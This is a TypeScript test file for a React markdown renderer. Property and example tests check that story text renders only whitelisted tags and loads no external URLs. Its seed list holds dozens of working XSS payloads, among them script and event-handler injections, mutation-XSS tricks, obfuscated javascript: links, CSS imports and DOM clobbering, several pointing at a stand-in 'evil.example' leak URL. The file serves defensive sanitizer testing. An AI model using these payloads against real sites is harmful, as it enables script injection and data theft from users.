import fc from 'fast-check';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { blocksOf, feed, NO_TEXT } from '#domain/text/markdown.ts';
import { runs } from '#tests/proof.ts';
import { numbered, RichBlock } from '#ui/text/rich-text.tsx';
import { StoryText } from '#ui/text/story-text.tsx';

const OUR_TAG =
  /^<(?:\/?(?:div|p|h3|blockquote|ul|ol|li|pre|hr|em|strong|s|code)|hr class="[\w -]*"|div class="[\w -]*" lang=""|p dir="auto"|(?:h3|blockquote|ul|ol|pre) class="[\w -]*" dir="auto"|div class="[\w -]*" data-block="\d+"|hr class="[\w -]*"\/|hr\/|li value="\d{1,3}")>$/;

const script = 'alert(document.domain)';
const EVIL = 'https://evil.example/p?leak=secret';
const seeds = [
  `<script>${script}</script>`,
  `<img src=x onerror=${script}>`,
  `<svg onload=${script}>`,
  `<svg><style><img src=x onerror=${script}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${script}>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `<iframe srcdoc="&lt;script&gt;${script}&lt;/script&gt;"></iframe>`,
  `<video poster=${EVIL}><source src=${EVIL}></video>`,
  `<link rel=prefetch href=${EVIL}>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<base href=${EVIL}>`,
  `<div style="background:url(${EVIL})">x</div>`,
  `<style>@import url(${EVIL});</style>`,
  '<a id="__proto__" name="getElementById"></a>',
  '<form id="body"><input name="innerHTML"></form>',
  `<details open ontoggle=${script}>`,
  `<a href="&#106;avascript:${script}">x</a>`,
  `![x](${EVIL})`,
  `![x](${EVIL} "title")`,
  `[x](javascript:${script})`,
  `[x](JaVaScRiPt:${script})`,
  `[x](data:text/html;base64,PHNjcmlwdD4=)`,
  `[x](vbscript:msgbox(1))`,
  `[x](java\u0000script:${script})`,
  `[x](&#x6A;avascript:${script})`,
  `<javascript:${script}>`,
  `<${EVIL}>`,
  `[x]: ${EVIL}`,
  `[![x](${EVIL})](${EVIL})`,
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u202e<script>\u202c',
  '<scr\u200bipt>alert(1)</scr\u200bipt>',
  '\ufeff<img src=x>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '`"><script>`alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  `\${${script}}`,
  'javascript:/*--></title></style></textarea></script></xmp><svg/onload=alert(1)>',
];
const wrappers: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `*${payload}*`,
  (payload) => `**${payload}`,
  (payload) => `> ${payload}`,
  (payload) => `- ${payload}`,
  (payload) => `1. ${payload}`,
  (payload) => `# ${payload}`,
  (payload) => `\`\`\`html\n${payload}`,
  (payload) => `\`${payload}\``,
  (payload) => `[${payload}](${EVIL})`,
  (payload) => `![${payload}](${EVIL})`,
  (payload) => `${'>'.repeat(500)}${'*_'.repeat(500)}${payload}`,
];
const payloads = seeds.flatMap((seed) => wrappers.map((wrap) => wrap(seed)));

const shown = (text: string): string => renderToStaticMarkup(<StoryText text={text} />);

/** The frame of the text and of each block. */
const BLOCK = /<div[^>]*>/g;

const tagsOf = (html: string): readonly string[] => html.match(/<[^>]*>/g) ?? [];

describe('the text of a reply', () => {
  it('faults C30, C31, C34: has only known tags and attributes and no URL, for any text', () => {
    expect(payloads.length).toBeGreaterThanOrEqual(300);
    for (const payload of payloads) {
      const html = shown(payload);
      for (const tag of tagsOf(html)) expect(tag, payload).toMatch(OUR_TAG);
      expect(html.replace(/<[^>]*>/g, ''), payload).not.toContain('<');
      expect(html.replace(/<[^>]*>/g, '').trim() !== '' || html.includes('<hr'), payload).toBe(true);
    }
  });

  it('faults C31: shows the description of a picture and loads nothing', () => {
    expect(shown(`![A lamp](${EVIL})`)).not.toContain('evil');
    expect(shown(`![A lamp](${EVIL})`)).toContain('A lamp');
  });

  it('faults C30: renders a nesting of 10,000 and a line of 1 MB', () => {
    for (const text of [`${'> '.repeat(10_000)}x`, '*a **b '.repeat(10_000), `${'- '.repeat(10_000)}x`, 'word '.repeat(200_000)])
      expect(shown(text).length).toBeGreaterThan(0);
  });

  it('faults C33: renders the same finished as streamed, at every cut', () => {
    const parts = ['*', '**', 'Rain. ', '\n', '> ', '- ', '1. ', '```\n', '`', '[a](b)', '***\n', '# ', '~~', 'ink'];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...parts), { maxLength: 25 }), (pieces) => {
        let state = NO_TEXT;
        let text = '';
        for (const piece of pieces) {
          state = feed(state, piece);
          text += piece;
          const streamed = renderToStaticMarkup(numbered(blocksOf(state)).map(([key, block]) => <RichBlock key={key} block={block} />));
          expect(shown(text).replace(BLOCK, '').replaceAll('</div>', '')).toBe(streamed);
        }
      }),
      { numRuns: runs(100, 300) },
    );
  });

  it('renders every kind of block', () => {
    const html = shown('# Night\n“You *came*.”\n\n***\n3. c\n7. d')
      .replace(/ class="[^"]*"/g, '')
      .replace(BLOCK, '')
      .replaceAll('</div>', '');
    expect(html).toBe(
      '<h3 dir="auto">Night</h3><p dir="auto">“You <em>came</em>.”</p><hr/><ol dir="auto"><li value="3">c</li><li value="7">d</li></ol>',
    );
  });
});
